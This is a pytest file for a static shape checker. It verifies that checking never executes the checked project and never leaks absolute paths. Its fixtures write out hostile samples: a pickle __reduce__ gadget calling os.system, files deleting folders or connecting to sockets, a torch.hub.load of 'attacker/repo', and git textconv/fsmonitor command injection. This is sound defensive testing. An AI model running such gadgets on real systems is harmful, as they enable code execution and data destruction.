"""Checking code never runs it, and the report never shows more of the disk than the user named.

- Files (and notebooks, and modules they import, and pickles they load) whose top level, class
  bodies, defaults, decorators, ``__init__``/``forward`` or ``__main__`` block would delete files,
  connect to a socket or spawn processes: after ``shapecheck check`` (in-process and as
  ``python -m shapecheck``, serial and with forked workers) and ``shapecheck summary``, the files
  are there, no marker was made, and the listening socket the test opened got no connection.
- Imports of modules that do not exist are unknown values, not errors.
- A project given as a relative path is reported with relative paths only, in every output format
  (findings inside imported code land on the call site, naming the imported file relatively);
  an absolute path, or a path through a symbolic link, is reported as given.
- The cache never follows a link out of its folder: a version subfolder, CACHEDIR.TAG or
  .gitignore planted as links to elsewhere are never written through.
"""
from __future__ import annotations

import json
import os
import pickle
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from shapecheck import __version__, cli
from shapecheck import cache as cachemod

from test_cache import check, env  # noqa: E402  (a child's environment; check in-process)

ROOT = Path(__file__).resolve().parent.parent
LINE = re.compile(r"^(?P<path>[^:\s]+):(?P<line>\d+):(?P<col>\d+): (?P<code>SHP\d{3}) ")


def shapecheck_subprocess(*argv: str, cwd: Path, flags: tuple = ()) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, *flags, "-m", "shapecheck", *argv], cwd=cwd, env=env(),
                          capture_output=True, text=True, timeout=300)


# ---------------------------------------------------------------------------- hostile code

class _Touch:
    """A pickle that makes a marker file when loaded (what torch.load/np.load/pickle.load of an
    untrusted file would do)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


class Hostile:
    """A project of files that would do harm if run, and what they would harm."""

    def __init__(self, base: Path, port: int) -> None:
        self.base = base
        self.proj = base / "proj"
        self.victim_dir = base / "victim_dir"
        self.sentinel = base / "sentinel.txt"
        self.markers = base / "markers"
        self.port = port
        self.names: list[str] = []

    def marker(self, name: str) -> str:
        self.names.append(name)
        return str(self.markers / name)

    def build(self) -> Hostile:
        self.proj.mkdir()
        self.victim_dir.mkdir()
        (self.victim_dir / "keep.txt").write_text("keep")
        self.sentinel.write_text("keep")
        self.markers.mkdir()
        (self.proj / "pyproject.toml").write_text("[project]\nname = 'hostile'\n")
        m, port, sentinel, victim = self.marker, self.port, str(self.sentinel), str(self.victim_dir)
        files = {
            "delete_tree.py": f"import shutil\nshutil.rmtree({victim!r})\n",
            "delete_file.py": (f"import os\nimport pathlib\nos.remove({sentinel!r})\nos.unlink({sentinel!r})\n"
                               f"pathlib.Path({sentinel!r}).unlink()\nopen({sentinel!r}, 'w').write('pwned')\n"),
            "connect.py": (f"import socket\nimport urllib.request\nimport http.client\n\nsocket.setdefaulttimeout(2)\n"
                           f"socket.create_connection(('127.0.0.1', {port}))\n"
                           f"s = socket.socket()\ns.connect(('127.0.0.1', {port}))\n"
                           f"urllib.request.urlopen('http://127.0.0.1:{port}/')\n"
                           f"http.client.HTTPConnection('127.0.0.1', {port}).request('GET', '/')\n"),
            "spawn.py": (f"import os\nimport subprocess\n"
                         f"subprocess.run(['touch', {m('subprocess_run')!r}])\n"
                         f"subprocess.Popen(['touch', {m('popen')!r}]).wait()\n"
                         f"subprocess.check_call('touch {m('check_call')}', shell=True)\n"
                         f"os.system('touch {m('os_system')}')\n"
                         f"os.popen('touch {m('os_popen')}').read()\n"
                         f"os.spawnlp(os.P_WAIT, 'touch', 'touch', {m('spawnlp')!r})\n"),
            "dynamic.py": (f"import importlib\n"
                           f"__import__('os').system('touch {m('dunder_import')}')\n"
                           f"exec(\"import os; os.system('touch {m('exec')}')\")\n"
                           f"eval(\"__import__('os').system('touch {m('eval')}')\")\n"
                           f"exec(compile(\"open({m('compile')!r}, 'w')\", 'x', 'exec'))\n"
                           f"importlib.import_module('subprocess').run(['touch', {m('import_module')!r}])\n"
                           f"getattr(__import__('pathlib'), 'Path')({m('getattr')!r}).touch()\n"),
            # harm hidden where an abstract interpreter walks: class bodies, defaults, decorators,
            # a layer's __init__ and forward that the file calls, comprehensions, f-strings, __main__
            "hidden.py": (f"import atexit\nimport os\nimport pathlib\n\nimport torch\nimport torch.nn as nn\n\n\n"
                          f"def touch(p):\n    pathlib.Path(p).touch()\n    return p\n\n\n"
                          f"def deco(f):\n    touch({m('decorator')!r})\n    return f\n\n\n"
                          f"@deco\ndef f(x=touch({m('default')!r})):\n    return x\n\n\n"
                          f"class Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
                          f"        touch({m('metaclass')!r})\n"
                          f"        return super().__new__(mcs, name, bases, ns)\n\n\n"
                          f"class C(metaclass=Meta):\n    touch({m('class_body')!r})\n\n"
                          f"    def __init_subclass__(cls):\n        touch({m('init_subclass')!r})\n\n"
                          f"    @property\n    def p(self):\n        return touch({m('property')!r})\n\n"
                          f"    def __del__(self):\n        touch({m('del')!r})\n\n\n"
                          f"class D(C):\n    pass\n\n\n"
                          f"class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
                          f"        os.system('touch {m('module_init')}')\n        self.fc = nn.Linear(4, 2)\n\n"
                          f"    def forward(self, x):\n        os.system('touch {m('forward')}')\n"
                          f"        return self.fc(x)\n\n\n"
                          f"atexit.register(os.system, 'touch {m('atexit')}')\n"
                          f"y = Net()(torch.randn(3, 4))\nq = C().p\n"
                          f"z = [touch(p) for p in [{m('comprehension')!r}]]\n"
                          f"w = f\"{{touch({m('fstring')!r})}}\"\n"
                          f"v = (lambda: touch({m('lambda')!r}))()\n"
                          f"with open({m('with_open')!r}, 'w') as fh:\n    fh.write('x')\n"
                          f"if __name__ == '__main__':\n    touch({m('main_block')!r})\n"),
            "evil_helpers.py": (f"import os\nos.system('touch {m('imported_module')}')\n\n\n"
                                "def helper():\n    return 1\n"),
            "uses_helpers.py": ("import torch\nimport evil_helpers\nfrom evilpkg import thing\n"
                                "from evilpkg.sub import g\n\n"
                                "x = evil_helpers.helper()\ny = thing(torch.randn(2, 2))\nz = g()\n"),
            "evilpkg/__init__.py": (f"import subprocess\nsubprocess.run(['touch', {m('package_init')!r}])\n\n\n"
                                    f"def thing(x):\n    return x\n"),
            "evilpkg/sub.py": f"import os\nos.system('touch {m('submodule')}')\n\n\ndef g():\n    return 2\n",
            "loads.py": ("import pickle\n\nimport numpy as np\nimport torch\n\n"
                         "a = torch.load('evil.pkl', weights_only=False)\nb = np.load('evil.pkl', allow_pickle=True)\n"
                         "c = pickle.load(open('evil.pkl', 'rb'))\nd = torch.hub.load('attacker/repo', 'model')\n"),
            "setup.py": f"import os\nos.system('touch {m('setup_py')}')\n",
            "conftest.py": f"import os\nos.system('touch {m('conftest')}')\n",
        }
        for name, text in files.items():
            (self.proj / name).parent.mkdir(parents=True, exist_ok=True)
            (self.proj / name).write_text(text)
        (self.proj / "evil.pkl").write_bytes(pickle.dumps(_Touch(m("pickle"))))
        cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                "source": [f"import os\nos.system('touch {m('notebook')}')\n", "import torch\n",
                           "x = torch.randn(2, 3) @ torch.randn(4, 5)\n"]}
        nb = {"cells": [cell], "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                           "language": "python"}},
              "nbformat": 4, "nbformat_minor": 5}
        (self.proj / "notebook.ipynb").write_text(json.dumps(nb))
        return self

    def assert_untouched(self, listener: socket.socket) -> None:
        assert sorted(os.listdir(self.markers)) == [], "code of the checked project ran"
        assert self.sentinel.read_text() == "keep"
        assert (self.victim_dir / "keep.txt").read_text() == "keep"
        assert accepted(listener) == 0, "the checked project connected to the test's socket"


def accepted(listener: socket.socket) -> int:
    """Connections that reached ``listener`` (queued ones included: the handshake completes
    without accept)."""
    n = 0
    while True:
        try:
            conn, _ = listener.accept()
        except (BlockingIOError, InterruptedError):
            return n
        conn.close()
        n += 1


@pytest.fixture
def listener():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("127.0.0.1", 0))
    s.listen(64)
    s.setblocking(False)
    yield s
    s.close()


@pytest.fixture
def hostile(tmp_path, listener, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv(cachemod.ENV_DIR, raising=False)
    h = Hostile(tmp_path, listener.getsockname()[1]).build()
    return h


def test_the_hostile_files_would_do_harm(hostile, listener, tmp_path):
    """The harness itself: the markers and the socket see what running the files would do."""
    probe = subprocess.run([sys.executable, "spawn.py"], cwd=hostile.proj, capture_output=True, timeout=60)
    assert probe.returncode == 0, probe.stderr
    assert "os_system" in os.listdir(hostile.markers)
    for p in hostile.markers.iterdir():
        p.unlink()
    subprocess.run([sys.executable, "connect.py"], cwd=hostile.proj, capture_output=True, timeout=60)
    assert accepted(listener) >= 1
    subprocess.run([sys.executable, "-c", "import pickle; pickle.load(open('evil.pkl', 'rb'))"],
                   cwd=hostile.proj, capture_output=True, timeout=60)
    assert os.listdir(hostile.markers) == ["pickle"]
    (hostile.markers / "pickle").unlink()


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_checking_in_process_runs_nothing(hostile, listener, capsys, jobs):
    files = [p for p in hostile.proj.rglob("*") if p.suffix in (".py", ".ipynb")]
    assert len(files) >= 8  # enough for --jobs 2 to fork workers
    code, out, err = check(capsys, "proj", "--jobs", jobs, "--cache-dir", "cache", "--output-format", "json")
    assert code == 1, err  # the notebook's matmul
    found = json.loads(out)
    assert ("proj/notebook.ipynb", "SHP101") in {(d["path"], d["code"]) for d in found}
    assert not [d for d in found if d["code"] == "SHP901" and "internal error" in d["message"]], found
    hostile.assert_untouched(listener)
    check(capsys, "proj", "--jobs", jobs, "--cache-dir", "cache")  # warm
    hostile.assert_untouched(listener)


def test_checking_as_a_subprocess_runs_nothing(hostile, listener):
    for argv in (["check", ".", "--no-cache", "--jobs", "1"], ["check", ".", "--jobs", "2"],
                 ["check", ".", "--jobs", "2"], ["check", "--diff", "."], ["summary", "."],
                 ["check", "--output-format", "sarif", "hidden.py", "loads.py", "uses_helpers.py"]):
        run = shapecheck_subprocess(*argv, cwd=hostile.proj)
        assert run.returncode in (0, 1), (argv, run.stderr)
        assert "Traceback" not in run.stderr, (argv, run.stderr)
        hostile.assert_untouched(listener)


def test_python_m_from_inside_a_project_imports_none_of_its_files(tmp_path):
    proj = tmp_path / "proj"
    proj.mkdir()
    marker = tmp_path / "shadowed"
    for name in ("typer.py", "sympy.py", "libcst.py"):
        (proj / name).write_text(f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n")
    (proj / "clean.py").write_text("import torch\nx = torch.randn(2, 3) @ torch.randn(3, 4)\n")
    run = shapecheck_subprocess("check", "--no-cache", "clean.py", cwd=proj)
    assert not marker.exists()
    assert run.returncode == 0, run.stderr


def test_since_runs_no_command_of_the_repository_config(tmp_path, capsys, monkeypatch):
    git = "git"
    repo = tmp_path / "repo"
    repo.mkdir()
    monkeypatch.chdir(repo)

    def run_git(*args: str) -> None:
        subprocess.run([git, *args], cwd=repo, check=True, capture_output=True)

    try:
        run_git("init", "-q")
    except (OSError, subprocess.CalledProcessError):
        pytest.skip("git is not available")
    run_git("config", "user.email", "t@example.com")
    run_git("config", "user.name", "t")
    (repo / "a.py").write_text("import torch\nx = torch.randn(3, 4)\n")
    run_git("add", "a.py")
    run_git("commit", "-qm", "init")
    (repo / "a.py").write_text("import torch\nx = torch.randn(3, 4)\ny = x @ torch.randn(5, 2)\n")
    (repo / ".gitattributes").write_text("*.py diff=evil\n")
    textconv, fsmonitor = tmp_path / "textconv", tmp_path / "fsmonitor"
    run_git("config", "diff.evil.textconv", f"sh -c 'touch {textconv}; cat \"$0\"'")
    run_git("config", "core.fsmonitor", f"touch {fsmonitor}; false #")
    code, out, err = check(capsys, "--no-cache", "--since", "HEAD", ".")
    assert code == 1 and "a.py:3:" in out, (out, err)  # the new line's finding
    assert not textconv.exists() and not fsmonitor.exists()


# ---------------------------------------------------------------------------- missing modules

MISSING = """import torch
import definitely_missing_module_xyz
import definitely_missing_module_xyz.sub as sub
from definitely_missing_module_xyz import make, Layer
from definitely_missing_module_xyz.deep.er import *  # noqa: F403

a = make() @ torch.randn(3, 4)
b = definitely_missing_module_xyz.f(torch.randn(2, 2)).reshape(7, 11)
c = Layer(10)(torch.randn(3, 4))
d = sub.thing.other[0](a, b, c)
e = torch.cat([a, b], dim=0)
"""


def test_missing_modules_are_unknown_not_errors(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    (tmp_path / "missing.py").write_text(MISSING)
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text("")
    (tmp_path / "pkg" / "rel.py").write_text(
        "import torch\n\nfrom .nope import helper\nfrom ..above import other\n\ny = helper(torch.randn(2, 3))\n")
    code, out, err = check(capsys, "--no-cache", "--output-format", "json", ".")
    assert (code, json.loads(out), err) == (0, [], "")
    # a real bug beside them is still found, and only it
    (tmp_path / "missing.py").write_text(MISSING + "f = torch.randn(2, 3) @ torch.randn(4, 5)\n")
    code, out, err = check(capsys, "--no-cache", "--output-format", "json", "missing.py")
    assert code == 1 and err == ""
    assert [(d["code"], d["line"]) for d in json.loads(out)] == [("SHP101", MISSING.count("\n") + 1)]


# ---------------------------------------------------------------------------- paths in the output

MODEL = ("import torch.nn as nn\n\n\nclass Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
         "        self.fc = nn.Linear(10, 5)\n\n    def forward(self, x):\n        return self.fc(x)\n")
TRAIN = "import torch\nfrom model import Net\n\nnet = Net()\ny = net(torch.randn(3, 20))\n"
LAYERS = ("import torch.nn as nn\n\n\nclass Block(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
          "        self.fc = nn.Linear(8, 4)\n\n    def forward(self, x):\n        return self.fc(x)\n")
RUN = "import torch\n\nfrom .layers import Block\n\ny = Block()(torch.randn(2, 9))\n"
# (path relative to the project, line) of each finding: all on call sites, none inside the imported code
EXPECTED = {("train.py", 5), ("pkg/run.py", 5)}
FORMATS = [f.value for f in cli.OutputFormat]


@pytest.fixture
def layout(tmp_path, monkeypatch):
    """``tmp_path/proj``: a script importing a buggy model beside it, a package module importing
    a buggy block relatively; the cwd is ``tmp_path``."""
    proj = tmp_path / "proj"
    (proj / "pkg").mkdir(parents=True)
    (proj / "model.py").write_text(MODEL)
    (proj / "train.py").write_text(TRAIN)
    (proj / "pkg" / "__init__.py").write_text("")
    (proj / "pkg" / "layers.py").write_text(LAYERS)
    (proj / "pkg" / "run.py").write_text(RUN)
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv(cachemod.ENV_DIR, raising=False)
    return tmp_path


def absolute_forms(base: Path) -> list[str]:
    """How an absolute path under ``base`` could show: as is, resolved, as a file URI, escaped in JSON."""
    forms = {str(base), os.path.realpath(base), Path(base).as_uri()[len("file://"):]}
    return sorted(forms | {json.dumps(f)[1:-1] for f in forms})


def located_paths(fmt: str, out: str) -> list[str]:
    """The path of every finding in one format's output."""
    if fmt in ("text", "concise", "full"):
        return [m["path"] for m in map(LINE.match, out.splitlines()) if m]
    if fmt == "pylint":
        return re.findall(r"^([^:\s]+):\d+: \[SHP\d{3}\]", out, re.MULTILINE)
    if fmt == "json":
        return [d["path"] for d in json.loads(out)]
    if fmt == "json-lines":
        return [json.loads(line)["path"] for line in out.splitlines() if line.strip()]
    if fmt == "github":
        return re.findall(r"file=([^,]+),", out)
    if fmt == "sarif":
        results = json.loads(out)["runs"][0]["results"]
        return [loc["physicalLocation"]["artifactLocation"]["uri"] for r in results for loc in r["locations"]]
    if fmt == "gitlab":
        return [d["location"]["path"] for d in json.loads(out)]
    if fmt == "rdjson":
        return [d["location"]["path"] for d in json.loads(out)["diagnostics"]]
    if fmt == "junit":
        return re.findall(r'<testsuite name="([^"]+)"', out)
    raise AssertionError(f"a new output format: {fmt}; teach located_paths where it puts paths")


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("given", ["proj", "./proj", "proj/"])
def test_a_relative_project_is_reported_with_relative_paths(layout, capsys, fmt, given):
    code, out, err = check(capsys, given, "--no-cache", "--output-format", fmt)
    assert code == 1, err
    shown = out
    if fmt == "sarif":  # SARIF names the folder relative paths are relative to (%SRCROOT%): the cwd
        log = json.loads(out)
        base = log["runs"][0].pop("originalUriBaseIds")
        assert base == {"%SRCROOT%": {"uri": Path(os.getcwd()).as_uri() + "/"}}
        shown = json.dumps(log)
        locations = [loc["physicalLocation"]["artifactLocation"] for r in log["runs"][0]["results"]
                     for loc in r["locations"]]
        assert all(a.get("uriBaseId") == "%SRCROOT%" for a in locations), locations
    for form in absolute_forms(layout):
        assert form not in shown + err, (form, shown)
    paths = located_paths(fmt, out)
    assert paths and all(not os.path.isabs(p) and os.path.normpath(p).startswith("proj" + os.sep) for p in paths), \
        paths
    if fmt == "json":
        found = {(os.path.relpath(d["path"], "proj"), d["line"]) for d in json.loads(out)}
        assert found == EXPECTED
        assert all("(model.py)" in d["message"] or "(pkg/layers.py)" in d["message"] for d in json.loads(out))


@pytest.mark.parametrize("fmt", FORMATS)
def test_checking_from_inside_a_package_shows_no_absolute_path(layout, capsys, monkeypatch, fmt):
    """The imported file a message names is relative too (to the package's root), whatever the cwd."""
    monkeypatch.chdir(layout / "proj" / "pkg")
    code, out, err = check(capsys, "run.py", "--no-cache", "--output-format", fmt)
    assert code == 1, err
    shown = out
    if fmt == "sarif":
        log = json.loads(out)
        log["runs"][0].pop("originalUriBaseIds")  # (%SRCROOT%: the cwd, as above)
        shown = json.dumps(log)
    for form in absolute_forms(layout):
        assert form not in shown + err, (form, shown)
    assert located_paths(fmt, out) == ["run.py"]
    if fmt == "json":
        assert "(pkg/layers.py)" in json.loads(out)[0]["message"]


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_an_absolute_project_is_reported_as_given(layout, capsys, fmt):
    given = str(layout / "proj")
    code, out, err = check(capsys, given, "--no-cache", "--output-format", fmt)
    assert code == 1, err
    paths = located_paths(fmt, out)
    if fmt == "sarif":
        assert paths and all(p.startswith(Path(given).as_uri() + "/") for p in paths), paths
    else:
        assert paths and all(p.startswith(given + os.sep) for p in paths), paths
        assert {(os.path.relpath(p, given), 5) for p in paths} == EXPECTED


def test_a_path_through_a_link_is_reported_as_given(layout, capsys):
    (layout / "link").symlink_to(layout / "proj", target_is_directory=True)
    code, out, err = check(capsys, "link", "--no-cache", "--output-format", "json")
    assert code == 1, err
    found = json.loads(out)
    assert {(d["path"], d["line"]) for d in found} == {("link/" + p, line) for p, line in EXPECTED}
    assert "proj" not in out and str(layout) not in out


# ---------------------------------------------------------------------------- the cache and links

@pytest.fixture
def cached_project(tmp_path, monkeypatch):
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "pyproject.toml").write_text("[project]\nname = 'x'\n")
    (proj / "model.py").write_text(MODEL)
    (proj / "train.py").write_text(TRAIN)
    (proj / "transpose.py").write_text("import torch\nx = torch.randn(64, 20)\nw = torch.randn(10, 20)\ny = x @ w\n")
    monkeypatch.chdir(proj)
    monkeypatch.delenv(cachemod.ENV_DIR, raising=False)
    return proj


def test_a_linked_version_folder_is_never_followed(cached_project, capsys, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    cache = cached_project / "cache"
    cache.mkdir()
    version = cache / f"v{cachemod.FORMAT}-{__version__}"
    version.symlink_to(outside, target_is_directory=True)
    expected = check(capsys, ".", "--no-cache", "--output-format", "json")
    assert expected[0] == 1
    for _ in range(2):  # a cold run, then one that would be warm
        assert check(capsys, ".", "--cache-dir", "cache", "--output-format", "json") == expected
        assert list(outside.iterdir()) == []  # nothing written through the link
        assert version.is_symlink() and version.resolve() == outside.resolve()
    assert check(capsys, ".", "--cache-dir", "cache", "--jobs", "2") [0] == 1
    assert list(outside.iterdir()) == []


def test_linked_tag_files_are_never_written_through(cached_project, capsys, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "kept").write_text("keep me")
    cache = cached_project / "cache"
    cache.mkdir()
    (cache / "CACHEDIR.TAG").symlink_to(outside / "kept")
    (cache / ".gitignore").symlink_to(outside / "dangling")  # a link to nothing: never created
    first = check(capsys, ".", "--cache-dir", "cache", "--output-format", "json")
    assert first[0] == 1
    assert check(capsys, ".", "--cache-dir", "cache", "--output-format", "json") == first
    assert (outside / "kept").read_text() == "keep me"
    assert sorted(p.name for p in outside.iterdir()) == ["kept"]
